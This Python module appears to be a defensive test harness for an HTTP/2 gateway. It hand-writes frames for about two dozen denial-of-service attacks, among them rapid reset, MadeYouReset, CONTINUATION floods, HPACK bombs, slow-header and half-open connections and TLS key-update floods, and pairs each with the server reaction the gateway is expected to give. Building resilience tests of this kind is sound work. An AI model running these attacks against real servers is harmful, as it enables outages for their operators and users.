"""Attacks on an HTTP/2 server: the bytes that each sends, and the required reaction. Frames are written manually."""

import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, closing, suppress
from dataclasses import dataclass

from clients import raw_tls

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PROTOCOL_ERROR, SETTINGS_TIMEOUT, CANCEL, ENHANCE_YOUR_CALM = 1, 4, 8, 11
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
WAIT_SECONDS = 60


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name: bytes, value: bytes) -> bytes:
    """Returns a literal without indexing; name and value have fewer than 127 bytes each."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def block(path: bytes = b"/3/device/00", method: bytes = b"POST") -> bytes:
    fields = [(b":method", method), (b":scheme", b"https"), (b":path", path), (b"host", b"localhost")]
    return b"".join(field(name, value) for name, value in fields)


def request(stream: int, path: bytes = b"/3/device/00", method: bytes = b"POST", more: bytes = b"") -> bytes:
    """Returns a complete request, with additional fields if given."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(path, method) + more)


def number(value: int) -> bytes:
    return struct.pack(">I", value)


def integer(value: int, prefix_bits: int) -> bytes:
    """Returns an HPACK integer (RFC 7541 §5.1) that fills its prefix."""
    value -= (1 << prefix_bits) - 1
    output = bytes([(1 << prefix_bits) - 1])
    while value >= 128:
        output += bytes([value & 127 | 128])
        value >>= 7
    return output + bytes([value])


@dataclass
class Target:
    """The address of the gateway. `ca` is None for cleartext. `scale` is 1 in the tests, more in the long run."""

    address: tuple[str, int]
    ca: str | None
    scale: int

    def connect(self) -> socket.socket:
        return socket.create_connection(self.address, timeout=WAIT_SECONDS)


class Peer(AbstractContextManager):
    """A connection that has begun HTTP/2."""

    def __init__(
        self, target: Target, settings: bytes = b"", opening: bytes = PREFACE, acknowledges: bool = True
    ):
        self.socket = target.connect()
        if target.ca:
            context = ssl.create_default_context(cafile=target.ca)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname=target.address[0])
        self.received = b""
        self.is_over = False
        self.send(opening + (frame(SETTINGS, payload=settings) if opening else b""))
        if opening == PREFACE and acknowledges:
            # This must come first, because nothing may interrupt a field block.
            next(kind for kind, _, _, _ in self.frames() if kind == SETTINGS)
            self.send(frame(SETTINGS, ACK))

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> bool:
        """Returns false if the server accepts no more bytes: it has ended the connection, or stopped reading."""
        try:
            self.socket.sendall(data)
        except TimeoutError:
            return False
        except (OSError, ssl.SSLError):
            self.is_over = True
        return not self.is_over

    def frames(self, seconds: float = WAIT_SECONDS) -> Iterator[tuple[int, int, int, bytes]]:
        """Yields kind, flags, stream and payload of each frame, until the connection ends or pauses."""
        deadline = time.monotonic() + seconds
        while True:
            while len(self.received) >= 9:
                end = 9 + int.from_bytes(self.received[:3], "big")
                if len(self.received) < end:
                    break
                kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
                payload, self.received = self.received[9:end], self.received[end:]
                yield kind, flags, stream, payload
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.socket.settimeout(left)
            try:
                more = self.socket.recv(65536)
            except TimeoutError:
                return
            except (OSError, ssl.SSLError):
                more = b""
            if not more:
                self.is_over = True
                return
            self.received += more

    def outcome(self, seconds: float = WAIT_SECONDS, *, passes_resets: bool = False) -> str:
        """Returns the server's reaction: `GOAWAY code`, `RST_STREAM code`, `closed`, or `nothing`."""
        for kind, _, _, payload in self.frames(seconds):
            if kind == GOAWAY:
                return f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
            if kind == RST_STREAM and not passes_resets:
                return f"RST_STREAM {int.from_bytes(payload[:4], 'big')}"
        return "closed" if self.is_over else "nothing"


@dataclass
class Attack:
    """An attack. `run` returns the reaction on each connection; each must be in `expected`."""

    name: str
    run: Callable[[Target], Iterator[str]]
    expected: tuple[str, ...]
    transports: tuple[str, ...] = ("tls", "h2c")


def peers(target: Target, settings: bytes = b"", acknowledges: bool = True) -> Iterator[Peer]:
    """Opens connections, one after another."""
    for _ in range(3 * target.scale):
        with Peer(target, settings, acknowledges=acknowledges) as attacker:
            yield attacker


def send_all(attacker: Peer, pieces: Callable[[int], bytes]) -> None:
    """Sends up to 20,000 pieces one after another, without reading, until the server accepts no more."""
    for start in range(0, 20_000, 500):
        if not attacker.send(b"".join(pieces(index) for index in range(start, start + 500))):
            break


def flood(pieces: Callable[[int], bytes], before: bytes = b"") -> Callable[[Target], Iterator[str]]:
    def run(target: Target) -> Iterator[str]:
        for attacker in peers(target):
            attacker.send(before)
            send_all(attacker, pieces)
            yield attacker.outcome()

    return run


def made_resets(target: Target) -> Iterator[str]:
    """MadeYouReset (CVE-2025-8671): one request after another, each with a fault for which the server resets its
    stream."""

    def overflow(stream: int) -> bytes:
        return frame(WINDOW_UPDATE, 0, stream, number(0x7FFFFFFF))

    for faulty in (
        lambda stream: request(stream) + overflow(stream),
        lambda stream: request(stream, more=field(b"content-length", b"5")),
        lambda stream: request(stream, more=field(b"X", b"1")),
        lambda stream: request(stream, b"/v1/topics/com.example.attack/wakes", b"GET") + overflow(stream),
    ):
        with Peer(target) as attacker:
            send_all(attacker, lambda index, faulty=faulty: faulty(index * 2 + 1))
            yield attacker.outcome(passes_resets=True)


def trailers_again(target: Target) -> Iterator[str]:
    """Sends trailers repeatedly: the first are malformed and reset the stream; the others may have been in transit."""
    for attacker in peers(target):
        attacker.send(OPEN)
        send_all(attacker, lambda _: frame(HEADERS, END_HEADERS, 1, TRAILER))
        yield attacker.outcome()
        yield attacker.outcome()


def some(requests: Callable[[int], bytes], count: int, settings: bytes = b"") -> Callable[[Target], Iterator[str]]:
    """Sends this number of requests, whatever the server does with the first."""

    def run(target: Target) -> Iterator[str]:
        for attacker in peers(target, settings):
            for index in range(count):
                attacker.send(requests(index * 2 + 1))
            yield attacker.outcome()

    return run


def unread(target: Target) -> Iterator[str]:
    """Requests answers and reads none: the socket accepts nothing more, and neither does the gateway."""
    for attacker in peers(target):
        attacker.socket.settimeout(WAIT_SECONDS)
        is_taken, stream = True, 1
        # Stop at its end: data to a closed session is discarded as fast as it arrives.
        deadline = time.monotonic() + WAIT_SECONDS
        while is_taken and time.monotonic() < deadline:
            requests = (request(stream + 2 * index, b"/v1/none", b"GET") for index in range(500))
            is_taken = attacker.send(b"".join(requests) + frame(WINDOW_UPDATE, 0, 0, number(65535)))
            stream += 1000
        yield "closed" if attacker.is_over else "nothing"


def crowd(count: int, first: bytes, drop: bytes = b"") -> Callable[[Target], Iterator[str]]:
    """Sends `first` on many connections, then `drop` on each repeatedly, so that none is silent."""

    def run(target: Target) -> Iterator[str]:
        with ExitStack() as stack:
            attackers = [stack.enter_context(Peer(target)) for _ in range(count * target.scale)]
            for attacker in attackers:
                attacker.send(first)
            for attacker in attackers:
                deadline = time.monotonic() + WAIT_SECONDS
                found = "nothing"
                while found == "nothing" and time.monotonic() < deadline:
                    for other in attackers if drop else ():
                        other.send(drop)
                    found = attacker.outcome(0.1 if drop else WAIT_SECONDS)
                yield found

    return run


def kept_block() -> bytes:
    """Sends a field block that stops one byte before the end of a field of the maximum length."""
    long = block() + b"\x00\x01x" + integer(31_900, 7)
    beginning = frame(HEADERS, 0, 1, long) + frame(CONTINUATION, 0, 1, b"v" * 16_000)
    return beginning + frame(CONTINUATION, 0, 1, b"v" * 15_899)


def key_updates(target: Target) -> Iterator[str]:
    """Requests one new key of TLS 1.3 after another, and reads nothing. The server may answer each with its own."""
    for kind in 2 * target.scale * (raw_tls.KEY_UPDATE_REQUESTED, raw_tls.KEY_UPDATE_NOT_REQUESTED):
        with closing(raw_tls.RawTLS(target.connect, receive_bytes=4096)) as attacker:
            attacker.send(PREFACE + frame(SETTINGS))
            all(attacker.update_key(kind) for _ in range(50_000))
            yield raw_tls.outcome(attacker)


def client_hello() -> bytes:
    """Returns the first bytes of a client's TLS handshake."""
    outgoing = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def ending(connection: socket.socket) -> str:
    """Returns the end of a connection on which nothing more is sent."""
    connection.settimeout(WAIT_SECONDS)
    try:
        while connection.recv(65536):
            pass
    except TimeoutError:
        return "nothing"
    except OSError:
        pass
    return "closed"


def half_open(target: Target) -> Iterator[str]:
    """Opens connections that are silent, or break off within the handshake or the preface."""
    hello = client_hello()
    beginnings = (hello, hello, hello, hello[:11], hello[:3], b"") if target.ca else (b"", b"PRI * HT")
    with ExitStack() as stack:
        sockets = []
        for index in range(500 * target.scale):
            sockets.append(stack.enter_context(target.connect()))
            # The gateway may close the oldest ones while more arrive.
            with suppress(OSError):
                sockets[-1].sendall(beginnings[index % len(beginnings)])
        yield from map(ending, sockets)


def garbage(target: Target) -> Iterator[str]:
    """Sends random bytes in place of the handshake, the preface, and frames."""
    source = random.Random(1)
    for index in range(20 * target.scale):
        noise = source.randbytes(4096)
        if index % 2:
            with Peer(target, opening=PREFACE if index % 4 == 1 else b"") as attacker:
                attacker.send(frame(SETTINGS) + noise * 8 if index % 4 == 1 else b"PRI * HTTP/1.0\r\n\r\n" + noise)
                found = attacker.outcome()
                yield "closed" if found.startswith("GOAWAY") else found
            continue
        with target.connect() as attacker:
            with suppress(OSError):
                attacker.sendall(noise)
            yield ending(attacker)


# One entry of the maximum size of the table, then thousands of one-byte references to it, as fields.
BOMB = bytes([0x40, 1]) + b"x" + integer(4000, 7) + b"v" * 4000 + bytes([0xBE]) * 10_000
OPEN, TRAILER = frame(HEADERS, END_HEADERS, 1, block()), field(b"a", b"b")
CONTINUED = frame(CONTINUATION, 0, 1, TRAILER)
CALM = (f"GOAWAY {ENHANCE_YOUR_CALM}", "closed")
RESET = (f"RST_STREAM {ENHANCE_YOUR_CALM}",)
ATTACKS = [
    Attack(
        "rapid-reset",
        flood(lambda index: request(index * 2 + 1) + frame(RST_STREAM, 0, index * 2 + 1, number(CANCEL))),
        CALM,
    ),
    Attack("made-you-reset", made_resets, CALM),
    Attack("continuation-flood", flood(lambda _: CONTINUED, frame(HEADERS, 0, 1, block())), CALM),
    Attack("endless-trailers", flood(lambda _: CONTINUED, OPEN + frame(HEADERS, END_STREAM, 1, TRAILER)), CALM),
    Attack("trailers-again", trailers_again, (f"RST_STREAM {PROTOCOL_ERROR}", *CALM)),
    Attack("settings-flood", flood(lambda _: frame(SETTINGS)), CALM),
    Attack("ping-flood", flood(lambda _: frame(PING, payload=bytes(8))), CALM),
    Attack("priority-flood", flood(lambda _: frame(PRIORITY, 0, 1, bytes(5))), CALM),
    Attack("empty-data-flood", flood(lambda _: frame(DATA, 0, 1), OPEN), CALM),
    Attack("window-update-flood", flood(lambda _: frame(WINDOW_UPDATE, 0, 0, number(1))), CALM),
    Attack("hpack-bomb", some(lambda stream: request(stream, more=BOMB), 50), RESET),
    Attack(
        "trailer-bomb",
        some(
            lambda stream: frame(HEADERS, END_HEADERS, stream, block())
            + frame(HEADERS, END_STREAM | END_HEADERS, stream, BOMB),
            50,
        ),
        RESET,
    ),
    # Requests hundreds of answers with a body, and leaves no window for them.
    Attack(
        "zero-window",
        some(lambda stream: request(stream, b"/v1/none", b"GET"), 500, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)),
        (f"RST_STREAM {CANCEL}",),
    ),
    Attack("unread-answers", unread, ("closed",)),
    Attack("slow-headers", crowd(20, frame(HEADERS, END_STREAM, 1, block()), CONTINUED), CALM[:1]),
    Attack("slow-bodies", crowd(20, OPEN, frame(DATA, 0, 1, b"{")), (f"RST_STREAM {CANCEL}",)),
    Attack("kept-blocks", crowd(200, kept_block()), CALM[:1]),
    # GOAWAY frames of the maximum length, without their last byte.
    Attack("kept-frames", crowd(200, frame(GOAWAY, payload=bytes(16_384))[:-1]), CALM[:1]),
    Attack(
        "unacknowledged-settings",
        lambda target: (attacker.outcome() for attacker in peers(target, acknowledges=False)),
        (f"GOAWAY {SETTINGS_TIMEOUT}",),
    ),
    Attack("key-updates", key_updates, CALM, ("tls",)),
    Attack("half-open", half_open, ("closed",)),
    Attack("garbage", garbage, ("closed",)),
]


def peak_bytes(pid: int) -> int:
    """Returns the maximum resident memory of a process since `forget_peak`."""
    with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as file:
        return next(int(line.split()[1]) * 1024 for line in file if line.startswith("VmHWM:"))


def forget_peak(pid: int) -> None:
    with open(f"/proc/{pid}/clear_refs", "w", encoding="ascii") as file:
        # proc_pid_clear_refs(5): the peak is what is resident now.
        file.write("5")
